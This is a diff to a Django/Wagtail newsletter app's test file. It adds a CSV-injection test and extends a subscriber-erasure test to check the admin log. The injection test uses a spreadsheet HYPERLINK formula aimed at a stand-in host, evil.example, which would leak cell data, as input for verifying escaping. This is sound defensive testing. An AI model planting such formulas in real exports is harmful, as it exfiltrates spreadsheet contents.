@@ -9,6 +9,7 @@ import pytest
 from django.db import connection
 from django.urls import reverse
 from django.utils import timezone
+from wagtail.models import ModelLogEntry
 from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text
 
 from newsdesk.conftest import use_task_backend
@@ -86,21 +87,55 @@ def test_it_exports_subscribers_as_csv(client, editor, newsletter, weekly):
     assert row["Subscriptions"] == "The Explainer: confirmed; The Morning Brief: confirmed"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    client, editor, newsletter, start
+):
+    """A reader picks their address and an editor names newsletters: a cell starting like a
+    formula is prefixed with ' so a spreadsheet shows it as text (CSV injection)."""
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    newsletter.name = formula
+    newsletter.save()
+    confirmed(newsletter, f"{start}1+2@example.org", "olena@example.org")
+    client.force_login(editor)
+    response = client.get(SUBSCRIBERS, {"export": "csv"})
+    content = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(content)))
+    emails = sorted(row["Email"] for row in rows)
+    assert emails == sorted([f"'{start}1+2@example.org", "olena@example.org"])
+    for row in rows:
+        assert row["Subscriptions"] == f"'{formula}: confirmed"
+
+
 def test_it_deletes_a_subscriber_with_everything_about_them(client, editor, newsletter, weekly):
     reader, other = confirmed(newsletter, "erase-me@example.org", "stays@example.org")
     confirmed(weekly, "erase-me@example.org")
     issue = Issue.objects.create(newsletter=newsletter, subject="Sent before", status="sending")
     services.create_deliveries(issue)
     client.force_login(editor)
+    edit = client.post(
+        f"{SUBSCRIBERS}edit/{reader.pk}/",
+        nested_form_data(
+            {
+                "email": reader.email,
+                "suppressed": "on",
+                "suppressed_reason": "request",
+                "subscriptions": inline_formset([]),
+            }
+        ),
+    )
+    assert edit.status_code == 302
     response = client.post(f"{SUBSCRIBERS}delete/{reader.pk}/")
     assert response.status_code == 302
     assert not Subscriber.objects.filter(pk=reader.pk).exists()
     assert not Subscription.objects.filter(subscriber_id=reader.pk).exists()
     assert not Delivery.objects.filter(subscriber_id=reader.pk).exists()
     assert Delivery.objects.filter(subscriber=other).exists()
-    # Not a trace of the address left in any of the app's tables.
+    # Not a trace of the address left in any of the app's tables, nor in the admin's history
+    # (which keeps who deleted a subscriber, and when).
+    assert ModelLogEntry.objects.filter(action="wagtail.delete", object_id=str(reader.pk)).exists()
     with connection.cursor() as cursor:
-        for model in (Subscriber, Subscription, Delivery, Issue):
+        for model in (Subscriber, Subscription, Delivery, Issue, ModelLogEntry):
             table = connection.ops.quote_name(model._meta.db_table)
             cursor.execute(f"SELECT * FROM {table}")
             assert "erase-me" not in repr(cursor.fetchall())
